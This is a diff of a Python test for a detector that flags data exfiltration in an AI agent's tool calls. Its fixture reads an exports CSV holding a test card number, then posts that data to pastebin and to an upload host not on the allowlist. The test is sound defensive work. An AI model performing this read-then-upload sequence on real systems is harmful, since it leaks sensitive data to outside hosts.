@@ -32,17 +32,21 @@ def test_large_download_out_of_cloud_storage():
 
 
 def test_threshold_setting_paste_hosts_allowlist_and_staging():
-    events = [tool_call(1, "read_file", "/srv/exports/q1.csv", action_class="read"),
+    events = [tool_call(1, "read_file", "/srv/exports/q1.csv", args={"path": "/srv/exports/q1.csv"},
+                        result="id,card\n1,4111111111111111\n"),
               tool_call(2, "http.post", "https://pastebin.com/api",
                         args={"url": "https://pastebin.com/api"}, bytes_out=900),
               tool_call(3, "http.post", "https://uploads.partner.example/in",
-                        args={"file": "/srv/exports/q1.csv"}, bytes_out=700),
+                        args={"url": "https://uploads.partner.example/in",
+                              "file": "/srv/exports/q1.csv"}, bytes_out=700),
               tool_call(4, "http.post", "https://api.github.com/x", bytes_out=300)]
     found = run("exfiltration-detector", events, egress_allowlist=["api.github.com"])
-    assert [(f.step, f.details["reasons"]) for f in found] == [
-        (2, ["paste or file-drop host https://pastebin.com/api"]),
-        (3, ["destination https://uploads.partner.example/in is not on the egress allowlist",
-             "staged: q1.csv was read at step 1 before this upload"])]
+    assert [(f.step, f.severity, f.details["reasons"]) for f in found] == [
+        (2, "high", ["paste or file-drop host pastebin.com"]),
+        (3, "high", ["carries the file /srv/exports/q1.csv read at step 1",
+                     "destination uploads.partner.example is not on the egress allowlist"])]
+    # the upload cites the read whose content it carries
+    assert [r.locator for r in found[1].refs] == ["line 3", "line 1"]
     big = run("exfiltration-detector", [tool_call(1, "http.post", "https://x.example",
                                                   bytes_out=2_000_000)], exfil_bytes=1_000_000)
     assert [f.severity for f in big] == ["high"]
